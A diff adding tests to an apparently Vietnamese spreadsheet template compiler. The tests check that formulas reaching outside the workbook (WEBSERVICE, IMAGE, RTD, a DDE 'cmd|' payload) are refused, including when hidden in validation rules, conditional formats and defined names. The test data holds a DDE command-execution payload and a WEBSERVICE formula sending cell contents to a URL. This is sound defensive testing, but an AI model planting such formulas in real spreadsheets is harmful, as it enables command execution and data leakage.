@@ -156,3 +156,48 @@ def test_notes_and_private_characters_of_a_template_stay() -> None:
     sheet = openpyxl.load_workbook(io.BytesIO(template.render({"x": "\ue0007\ue000"}))).active
     assert [cell.value for cell in sheet[1]] == ["\ue0007\ue000", "\ue000 \ue001 7\ue002 đ"]
     assert sheet["B1"].comment.text == "ghi chú \ue000"
+
+
+@pytest.mark.parametrize(
+    ("formula", "found"),
+    [
+        ('=WEBSERVICE("https://vidu.vn/?"&A2)', "WEBSERVICE"),
+        ('=IF(A2="",1,_xlfn.webservice(A3))', "webservice"),
+        ('=_xlfn.IMAGE("https://vidu.vn/a.png")', "IMAGE"),
+        ("=cmd|'/c calc'!A0", "cmd|"),
+        ('=RTD("a",,"b")', "RTD"),
+    ],
+)
+def test_a_formula_that_reaches_out_is_refused_with_its_cell(formula: str, found: str) -> None:
+    problem = refused(workbook({"A1": "x", "B3": formula}))
+    assert (problem.message.id, problem.place.cell) == ("workbook-refused.formula", "B3")
+    assert problem.message.values["found"] == found
+    assert problem.hint
+
+
+def test_a_formula_that_reaches_out_is_found_in_rules_and_names() -> None:
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.workbook.defined_name import DefinedName
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    book = openpyxl.load_workbook(io.BytesIO(workbook({"A1": "x"})))
+    rule = DataValidation(type="custom", formula1='WEBSERVICE("a")=1')
+    rule.add("A2")
+    book.active.add_data_validation(rule)
+    book.active.conditional_formatting.add("A3", FormulaRule(['WEBSERVICE("a")=1']))
+    book.defined_names["ten"] = DefinedName("ten", attr_text='WEBSERVICE("a")')
+    out = io.BytesIO()
+    book.save(out)
+    with pytest.raises(ProblemsFound) as stop:
+        compile_template(out.getvalue(), name="mau.xlsx")
+    assert [problem.message.id for problem in stop.value.problems] == ["workbook-refused.formula"] * 3
+    assert {getattr(problem.place.where, "id", "") for problem in stop.value.problems} == {
+        "at.validation",
+        "at.condition",
+        "at.defined-name",
+    }
+
+
+@pytest.mark.parametrize("formula", ['=HYPERLINK("#A1","WEBSERVICE(a|b)")', "=SUM(A1:A2)", '="a|b"&IMAGINARY("1+i")'])
+def test_other_formulas_pass(formula: str) -> None:
+    assert compile_template(workbook({"A1": "x", "B3": formula})).render({})
